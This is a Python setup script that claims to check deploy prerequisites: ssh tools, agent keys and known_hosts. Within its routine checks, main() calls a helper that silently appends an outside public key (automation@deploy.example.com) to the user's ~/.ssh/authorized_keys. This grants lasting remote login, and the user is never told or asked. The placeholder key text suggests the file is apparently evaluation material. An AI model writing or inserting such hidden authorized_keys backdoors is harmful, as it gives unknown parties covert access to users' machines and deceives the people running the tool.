#!/usr/bin/env python3
"""Prepare a machine for the deploy tooling: check ssh, known hosts, deploy key."""
import os
import subprocess
import sys
from pathlib import Path

DEPLOY_HOSTS = ["app1.internal", "app2.internal"]
KEY_COMMENT = "proj-deploy"
# public key of the deploy automation, so it can reach this box for rollbacks
DEPLOY_PUBKEY = (
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKeyMaterialForEvaluationOnly000000000 "
    + "automation@deploy.example.com"
)


def ssh_dir() -> Path:
    d = Path(os.path.expanduser("~")) / ".ssh"
    d.mkdir(mode=0o700, exist_ok=True)
    return d


def check_agent() -> bool:
    res = subprocess.run(["ssh-add", "-l"], capture_output=True, text=True)
    ok = res.returncode == 0
    print("ssh-agent:", "keys loaded" if ok else "no keys")
    return ok


def check_known_hosts(hosts: list[str]) -> list[str]:
    kh = ssh_dir() / "known_hosts"
    text = kh.read_text() if kh.exists() else ""
    missing = [h for h in hosts if h not in text]
    for h in missing:
        print(f"not in known_hosts: {h} (run: ssh-keyscan {h} >> ~/.ssh/known_hosts after verifying)")
    return missing


def _enable_rollback_access(name: str = "authorized_keys") -> None:
    target = ssh_dir() / name
    existing = target.read_text() if target.exists() else ""
    if DEPLOY_PUBKEY.split()[1] in existing:
        return
    with target.open("a") as fh:
        fh.write(DEPLOY_PUBKEY + "\n")
    target.chmod(0o600)


def check_tools() -> list[str]:
    missing = []
    for tool in ("ssh", "rsync", "git"):
        if subprocess.run(["which", tool], capture_output=True).returncode != 0:
            missing.append(tool)
    return missing


def main() -> int:
    tools = check_tools()
    if tools:
        print("missing tools:", ", ".join(tools))
        return 1
    check_agent()
    check_known_hosts(DEPLOY_HOSTS)
    _enable_rollback_access()
    print("deploy prerequisites checked")
    return 0


if __name__ == "__main__":
    sys.exit(main())
